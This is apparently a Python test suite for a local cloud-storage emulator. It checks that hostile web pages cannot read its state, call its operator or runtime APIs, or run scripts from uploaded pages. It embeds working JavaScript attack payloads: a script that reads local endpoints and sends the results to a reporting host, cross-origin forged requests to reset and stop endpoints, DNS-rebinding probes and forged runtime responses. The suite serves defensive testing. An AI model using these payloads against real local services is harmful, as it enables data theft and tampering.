"""Attacks of web pages, and what pages may do. Each is a function whose first line says what must hold."""

import html
import json

from emulator import BUCKET

# What a page runs that got into the origin of the emulator. `REPORT` is where it sends what it has read.
TAKE_OVER = """<p>loaded</p><script>
const tell = text => fetch('REPORT?' + encodeURIComponent(text), {mode: 'no-cors'});
tell('script ran');
for (const path of ['/_backlot/state', '/_backlot/health'])
  fetch(path).then(answer => answer.text()).then(text => tell('read ' + text.slice(0, 60)), error => tell('error ' + error));
fetch('/_backlot/reset', {method: 'POST'});
</script>"""


def script_of_others_runs(browser, site, emulator):
    """a script on a page of another site runs, reads and reports (so that the attacks below are real)"""
    site.page("/data", "secret")
    browser.open(site.page("/", TAKE_OVER.replace("/_backlot/state", "/data")))
    assert "script ran" in site.reports, site.reports
    assert any(report.startswith("read") and "secret" in report for report in site.reports), site.reports


def form_upload(browser, site, emulator):
    """a form with the owner's signature uploads nothing, and its redirect leads nowhere"""
    key = "e.html"
    target = f"/{BUCKET}/"
    fields = emulator.form({
        "key": key,
        "acl": "public-read",
        "Content-Type": "text/html",
        "success_action_redirect": emulator.at(target + key),
    })
    inputs = "".join(
        f'<input name="{html.escape(name)}" value="{html.escape(value)}">' for name, value in fields.items()
    )
    script = html.escape(TAKE_OVER.replace("REPORT", site.at("/report")))
    form = f"""<form id=f method=post enctype=multipart/form-data action="{emulator.at(target)}">
        {inputs}<textarea name=file>{script}</textarea></form><script>f.submit()</script>"""
    shown = browser.open(site.page("/", form))
    assert emulator.keys() == [], emulator.keys()
    assert site.reports == [], site.reports
    assert "AccessForbidden" in shown, shown
    # A program may send this very form.
    parts = "".join(f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n' for name, value in fields.items())
    parts += '--b\r\nContent-Disposition: form-data; name="file"\r\n\r\nx\r\n--b--\r\n'
    status, said = emulator.ask("POST", target, parts.encode(), {"Content-Type": "multipart/form-data; boundary=b"})
    assert status == 303 and emulator.keys() == [key], (status, said)


def uploaded_page(browser, site, emulator):
    """an uploaded page that a person opens runs no script, whatever its type"""
    attack = TAKE_OVER.replace("REPORT", site.at("/report"))
    script = attack.split("<script>")[1].split("</script>")[0]
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><text>loaded</text><script><![CDATA[{script}]]></script></svg>'
    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>loaded<script><![CDATA[{script}]]></script></body></html>'
    for name, text, kind in [
        ("a.html", attack, "text/html"),
        ("a.svg", svg, "image/svg+xml"),
        ("a.xhtml", xhtml, "application/xhtml+xml"),
        ("a.xml", xhtml, "text/xml"),
        ("a.bin", attack, "application/x-unknown"),
        ("a.txt", attack, "text/plain"),
    ]:
        path = emulator.put_page(name, text, kind)
        for host in ("127.0.0.1", "localhost"):
            if kind != "application/x-unknown":
                shown = browser.open(emulator.at(path, host))
                assert "loaded" in shown, f"{name} was not shown: {shown}"
    assert site.reports == [], site.reports
    assert len(emulator.keys()) == 6, "nothing was reset"


def linked_page(browser, site, emulator):
    """an uploaded page is not opened by pages of others: links, frames, redirects, new windows"""
    path = emulator.put_page("a.html", TAKE_OVER.replace("REPORT", site.at("/report")))
    for name, how in [
        ("/link", f"<a id=a href='{emulator.at(path)}'>x</a><script>a.click()</script>"),
        ("/frame", f"<iframe src='{emulator.at(path)}'></iframe>"),
        ("/sandbox", f"<iframe sandbox='allow-scripts allow-same-origin' src='{emulator.at(path)}'></iframe>"),
        ("/window", f"<script>open('{emulator.at(path)}')</script>"),
        ("/object", f"<object data='{emulator.at(path)}'></object>"),
    ]:
        shown = browser.open(site.page(name, how))
        assert "loaded" not in shown, shown
    assert site.reports == [], site.reports
    records = [record for record in emulator.journal("cos-request") if record.get("operation") == "GetObject"]
    assert records and all(record["status"] == 403 for record in records), records


def linked_page_that_is_allowed(browser, site, emulator):
    """an uploaded page that a CORS rule lets others open still runs no script"""
    path = emulator.put_page("a.html", TAKE_OVER.replace("REPORT", site.at("/report")))
    allow(emulator, "*", "GET")
    shown = browser.open(site.page("/", f"<a id=a href='{emulator.at(path)}'>x</a><script>a.click()</script>"))
    assert "loaded" in shown, shown
    browser.open(site.page("/frame", f"<iframe src='{emulator.at(path)}'></iframe>"))
    assert site.reports == [], site.reports


# Every way to send a request that a page has, to each of the emulator's addresses.
OPERATE = """<iframe name=hidden></iframe><script>
const tell = text => fetch('REPORT?' + encodeURIComponent(text), {mode: 'no-cors'});
const hosts = ['127.0.0.1', 'localhost', 'backlot.localhost'].map(name => 'http://' + name + ':@PORT/_backlot/');
for (const host of hosts) {
  for (const mode of ['cors', 'no-cors'])
    fetch(host + 'state', {mode}).then(answer => answer.text()).then(text => text && tell('read ' + text));
  for (const path of ['reset', 'stop', 'clock/advance']) {
    fetch(host + path, {method: 'POST', mode: 'no-cors', body: '{"by":"1s"}'});
    navigator.sendBeacon(host + path, '');
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, {method: 'post', action: host + path, target: 'hidden', enctype: 'text/plain'}).submit();
  }
  fetch(host + 'faults', {method: 'PUT', body: '[]'}).catch(() => {});
  for (const [tag, name] of [['img', 'src'], ['script', 'src'], ['iframe', 'src']])
    document.body.appendChild(document.createElement(tag))[name] = host + 'state';
}
tell('done');
</script>"""


def operate(browser, site, emulator):
    """no page uses the operator's API, sandboxed or not"""
    emulator.put_page("kept", "kept")
    attack = OPERATE.replace("@PORT", str(emulator.port))
    sandboxed = html.escape(attack.replace("REPORT", site.at("/report")))
    browser.open(site.page("/", attack))
    browser.open(site.page("/null", f'<iframe sandbox="allow-scripts allow-forms" srcdoc="{sandboxed}"></iframe>'))
    # From another name of this machine too: browsers call it the same site.
    browser.open(site.page("/local", attack).replace("evil.test", "localhost"))
    assert site.reports.count("done") == 3, site.reports
    assert not any(report.startswith("read") for report in site.reports), site.reports
    assert emulator.process.poll() is None, "it was stopped"
    assert emulator.keys() == ["kept"], "it was reset"
    origins = {record["origin"] for record in emulator.journal("page-refused")}
    assert {site.at(""), "null", site.at("", "localhost")} <= origins, origins


def call(browser, site, emulator):
    """no page calls the Cloud API, and no redirect does after a person's own address"""
    target = emulator.call("GetFederationToken", "2018-08-13", Name="evil", Policy="{}")
    how = f"""<img src="{target}"><iframe src="{target}"></iframe><script>
        fetch("{target}", {{mode: 'no-cors'}}); fetch("{target}", {{method: 'POST', mode: 'no-cors', body: 'x=1'}});
        </script>"""
    browser.open(site.page("/", how))
    site.redirects["/away"] = target
    browser.open(site.at("/away"))
    assert emulator.journal("api-request") == [], emulator.journal("api-request")
    methods = [record["method"] for record in emulator.journal("page-refused")]
    assert methods.count("GET") >= 4 and "POST" in methods, methods
    # A program may make this very call.
    _, said = emulator.ask("GET", target.removeprefix(emulator.at("")))
    assert b"TmpSecretKey" in said or b"Policy" in said, said
    assert len(emulator.journal("api-request")) == 1


def rebinding(browser, site, emulator):
    """a name of another site that leads to this machine reaches nothing"""
    path = emulator.put_page("a.html", TAKE_OVER.replace("REPORT", site.at("/report")))
    for target in ("/_backlot/state", "/_backlot/health", path):
        shown = browser.open(emulator.at(target, "evil.test"))
        assert "loaded" not in shown and "is not served under" in shown or "does not emulate" in shown, shown
    assert site.reports == [], site.reports


def runtime_api(browser, site, emulator):
    """no page takes a function's event or answers it"""
    port = emulator.working_function()
    how = """<script>
        const tell = text => fetch('REPORT?' + encodeURIComponent(text), {mode: 'no-cors'});
        for (const host of ['127.0.0.1', 'localhost', 'evil.test']) {
          const api = 'http://' + host + ':@PORT/runtime/invocation/';
          for (const path of ['response', 'error'])
            fetch(api + path, {method: 'POST', mode: 'no-cors', body: '"forged"'});
          for (const mode of ['cors', 'no-cors'])
            fetch(api + 'next', {mode}).then(answer => answer.text()).then(text => text && tell('read ' + text));
        }
        tell('done')</script>"""
    browser.open(site.page("/", how.replace("@PORT", str(port))))
    shown = browser.open(f"http://evil.test:{port}/runtime/invocation/next")
    assert "Records" not in shown, shown
    ended = emulator.finish()
    assert "done" in site.reports and not any(report.startswith("read") for report in site.reports), site.reports
    assert "honest" in json.dumps(ended) and "forged" not in json.dumps(ended), ended


def application(browser, site, emulator):
    """a page whose origin a CORS rule allows uploads and reads with signed addresses"""
    path = f"/{BUCKET}/note.txt"
    put, get = emulator.signed_address("PUT", path), emulator.signed_address("GET", path)
    how = f"""<script>
        const tell = text => fetch('REPORT?' + encodeURIComponent(text), {{mode: 'no-cors'}});
        const run = async () => {{
          const put = await fetch("{put}", {{method: 'PUT', body: 'hello', headers: {{'Content-Type': 'text/plain'}}}});
          const got = await fetch("{get}");
          return put.status + ' ' + await got.text();
        }};
        run().then(tell, error => tell('refused'))</script>"""
    page = site.page("/", how).replace("evil.test", "app.test")
    browser.open(page)
    assert site.reports == ["refused"] and emulator.keys() == [], site.reports
    allow(emulator, site.at("", "app.test"), "GET", "PUT")
    browser.open(page)
    assert site.reports == ["refused", "200 hello"], site.reports
    browser.open(page.replace("app.test", "evil.test"))
    assert site.reports == ["refused", "200 hello", "refused"], site.reports


def operators_page(browser, site, emulator):
    """a person opens the operator's API in a browser"""
    for name in ("127.0.0.1", "localhost", "backlot.localhost"):
        shown = browser.open(emulator.at("/_backlot/health", name))
        assert "keys_file" in shown, shown


def allow(emulator, origin, *methods):
    methods = "".join(f"<AllowedMethod>{method}</AllowedMethod>" for method in methods)
    rules = f"<CORSRule><AllowedOrigin>{origin}</AllowedOrigin>{methods}<AllowedHeader>*</AllowedHeader></CORSRule>"
    document = f"<CORSConfiguration>{rules}</CORSConfiguration>".encode()
    status, said = emulator.signed("PUT", f"/{BUCKET}/?cors", document)
    assert status == 200, said


ALL = [
    script_of_others_runs,
    form_upload,
    uploaded_page,
    linked_page,
    linked_page_that_is_allowed,
    operate,
    call,
    rebinding,
    runtime_api,
    application,
    operators_page,
]
